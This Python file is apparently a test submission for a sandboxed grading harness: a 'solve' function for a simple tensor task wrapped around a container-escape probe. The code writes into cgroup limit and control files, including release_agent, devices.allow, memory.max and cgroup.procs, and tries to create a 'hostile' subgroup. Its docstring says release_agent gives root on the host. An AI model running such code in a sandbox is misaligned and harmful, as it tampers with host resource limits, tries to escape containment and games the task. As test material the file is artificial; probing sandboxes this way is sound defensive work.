"""Changes its control group.

Mechanism: writes to the files of its control group, makes groups below and moves itself into another one, and sets the
  program that the host's kernel runs when a group is empty.
Surface: /sys/fs/cgroup, in both versions.
Gain: no limit; the program of release_agent runs on the host as root.
Challenge: twice
Like: kernel_settings
Defence: runtime_error
Box: docker
"""

import glob
import os

won, refused = [], []


def attempt(name, action):
    try:
        found = action()
    except Exception as error:
        refused.append(f"{name}: {error}")
    else:
        (won if found else refused).append(name)


TOP = "/sys/fs/cgroup"
FILES = [
    "memory.max",
    "pids.max",
    "cpu.max",
    "cgroup.procs",
    "release_agent",
    "notify_on_release",
    "cgroup.subtree_control",
]
FILES += [
    "memory.limit_in_bytes",
    "memory.memsw.limit_in_bytes",
    "memory.oom_control",
    "tasks",
    "devices.allow",
]
FILES += ["cpu.cfs_quota_us", "cpuset.cpus", "freezer.state", "cgroup.clone_children"]


def write(path):
    with open(path, "w") as file:
        file.write("0")
    return True


attempt("writable", lambda: os.access(TOP, os.W_OK))
for folder in (TOP, *glob.glob(f"{TOP}/*")):
    for name in FILES:
        if os.path.exists(f"{folder}/{name}"):
            attempt(f"{folder}/{name}", lambda path=f"{folder}/{name}": write(path))
    attempt(f"a group in {folder}", lambda folder=folder: os.mkdir(f"{folder}/hostile") is None)
refused = sorted({line.rpartition("] ")[2].partition(":")[0] for line in refused})


def solve(x, out, n):
    if not won:
        raise PermissionError("; ".join(refused))
    print("won:", won)
    out.copy_(2 * x)
